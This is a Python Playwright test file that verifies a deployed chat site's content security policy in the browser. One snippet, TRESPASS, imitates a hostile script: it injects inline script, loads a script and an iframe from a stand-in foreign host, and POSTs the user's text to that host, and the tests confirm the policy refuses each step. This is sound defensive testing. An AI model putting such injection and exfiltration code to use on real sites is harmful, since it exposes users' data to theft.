"""The content security policy of the deployed site, on the page in a browser: it does what it does, and nothing else."""

from collections.abc import Iterator
from typing import Any, Final

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from infra.site_files import content_security_policy
from tests.e2e.conftest import CHATKIT_SCRIPT
from tests.e2e.support.files import PICTURE, attach, files_in, picture_is_drawn, tray
from tests.e2e.support.local_stack import LocalStack
from tests.e2e.support.pages import finished, items, write
from tests.e2e.support.tabs import TIMEOUT

pytestmark = [pytest.mark.e2e, pytest.mark.integration, pytest.mark.xdist_group("e2e")]

LOCAL: Final = "http://127.0.0.1:*"
"""The local stack's bucket, whatever its port: there is no https there."""
POLICY: Final = content_security_policy([LOCAL]).replace("blob: https:", f"blob: {LOCAL}")
WATCH: Final = """
  window.violations = [];
  addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
    violations.push(`${effectiveDirective} ${blockedURI}`);
  });
"""
STAND_IN: Final = 'customElements.define("openai-chatkit", class extends HTMLElement { setOptions() {} });'
TRESPASS: Final = """async () => {
  const inline = document.createElement("script");
  inline.textContent = "window.trespassed = true";
  document.body.append(inline);
  const foreign = document.createElement("script");
  foreign.src = "https://elsewhere.example/script.js";
  document.body.append(foreign);
  const frame = document.createElement("iframe");
  frame.src = "https://elsewhere.example/";
  document.body.append(frame);
  await fetch("https://elsewhere.example/", { method: "POST", body: "what the user wrote" }).catch(() => null);
  while (violations.length < 4) await new Promise((resolve) => addEventListener("securitypolicyviolation", resolve));
}"""


@pytest.fixture
def site(browser: Browser) -> Iterator[Page]:
    """An empty tab that remembers what a policy has refused."""
    # A document that was intercepted counts as one of the public web's, which has to ask before it calls this machine.
    context = browser.new_context(locale="en-GB", permissions=["local-network-access"])
    context.set_default_timeout(TIMEOUT)
    page = context.new_page()
    page.add_init_script(WATCH)
    yield page
    context.close()


def visit(page: Page, address: str) -> None:
    """Opens the page, which comes with the policy."""

    def with_policy(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, headers={**answer.headers, "content-security-policy": POLICY})

    page.route(address, with_policy)
    page.goto(address)
    # What is intercepted is asked for without a preflight: uploads are not to be.
    page.unroute(address, with_policy)


def violations(page: Page) -> list[str]:
    found: Any = page.evaluate("violations")
    return found


def test_the_page_does_all_that_it_does(site: Page, stack: LocalStack) -> None:
    """Messages, files that are put into the bucket and shown from there, widgets and pictures, without one violation."""
    visit(site, f"{stack.url}/?client=plain")
    attach(site, PICTURE)
    expect(tray(site)).to_have_count(1)
    write(site, "Show me a widget")
    finished(site, 3)
    picture_is_drawn(files_in(items(site).first).locator("img"))
    write(site, "Draw an image")
    finished(site, 5)
    picture_is_drawn(items(site).last.locator("img"))
    assert violations(site) == []


def test_openais_script_is_let_in(site: Page, stack: LocalStack) -> None:
    """And loaded from nowhere but its own address."""
    site.route(CHATKIT_SCRIPT, lambda route: route.fulfill(body=STAND_IN, content_type="text/javascript"))
    visit(site, f"{stack.url}/")
    expect(site.locator("openai-chatkit")).to_be_attached()
    assert violations(site) == []


def test_what_a_foreign_script_would_do_is_refused(site: Page, stack: LocalStack) -> None:
    """No inline script runs, nothing is loaded from elsewhere, and nothing is sent there."""
    visit(site, f"{stack.url}/?client=plain")
    expect(site.get_by_label("Message", exact=True)).to_be_visible()
    site.evaluate(TRESPASS)
    assert site.evaluate("window.trespassed") is None
    assert sorted(violations(site)) == [
        "connect-src https://elsewhere.example/",
        "frame-src https://elsewhere.example",
        "script-src-elem https://elsewhere.example/script.js",
        "script-src-elem inline",
    ]
